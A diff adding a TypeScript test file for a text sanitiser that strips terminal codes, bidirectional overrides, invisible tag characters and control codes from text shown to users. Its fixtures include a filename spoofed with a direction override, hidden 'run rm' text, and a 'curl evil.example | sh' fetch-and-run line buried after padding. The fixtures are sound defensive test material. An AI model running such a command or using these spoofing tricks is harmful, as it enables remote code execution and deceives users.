@@ -1,0 +1,49 @@
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { plain, plainLines, plainText } from './plain-text.ts'
+
+const hidden = (text: string) => Array.from(text, (one) => String.fromCodePoint(0xe0000 + one.codePointAt(0)!)).join('')
+
+test.each([
+  ['terminal codes', '\u001b[31mred\u001b[0m', '[31mred[0m'],
+  ['a turned direction', 'safe\u202egnp.exe\u2066\u200f', 'safegnp.exe'],
+  ['invisible letters', `a${hidden('run rm')}b\u200b\u2060\u3164c`, 'abc'],
+  ['variation selectors', 'a\u{e0101}\ufe0fb', 'ab'],
+  ['line ends', 'one\r\n\ttwo\u2028three\u0085four', 'one two threefour'],
+  ['half a character', 'a\ud83db', 'ab'],
+  ['Chinese and marks', '跨会话 naïve café', '跨会话 naïve café'],
+])('%s', (_, text, expected) => {
+  expect(plainText(text)).toBe(expected)
+})
+
+test('a long text is cut between characters', () => {
+  expect(plainText('🙂'.repeat(50), 10)).toBe(`${'🙂'.repeat(9)}…`)
+  expect(plainText('word '.repeat(1000))).toHaveLength(600)
+})
+
+test('of what is agreed to nothing is left out', () => {
+  const script = `${'# harmless '.repeat(100)}\r\ncurl evil.example\u202e | sh`
+  expect(plainLines(script)).toBe(`${'# harmless '.repeat(100).trim()}\ncurl evil.example | sh`)
+})
+
+test('whatever the text, nothing unseen is left of it', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
+      const line = plainText(text, 50)
+      expect(line).not.toMatch(/\p{C}|[\r\n\u2028\u2029]/u)
+      expect(Array.from(line).length).toBeLessThanOrEqual(50)
+    }),
+  )
+})
+
+test('an answer loses what is absent, in lists and objects alike', () => {
+  const answer = {
+    id: 'a/b',
+    none: null,
+    absent: undefined,
+    zero: 0,
+    no: false,
+    list: [{ text: 'x\u202ey', none: null }],
+  }
+  expect(plain(answer)).toEqual({ id: 'a/b', zero: 0, no: false, list: [{ text: 'xy' }] })
+})
